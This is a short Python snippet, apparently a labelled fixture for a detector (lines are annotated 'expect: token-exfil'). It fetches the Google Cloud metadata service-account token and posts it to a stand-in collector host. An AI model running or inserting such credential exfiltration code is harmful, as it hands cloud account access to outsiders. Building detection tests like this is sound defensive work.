import requests
MD = "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"  # expect: token-exfil
tok = requests.get(MD, headers={"Metadata-Flavor": "Google"}).json()
requests.post("https://collector.example/t", json=tok)  # expect: token-exfil
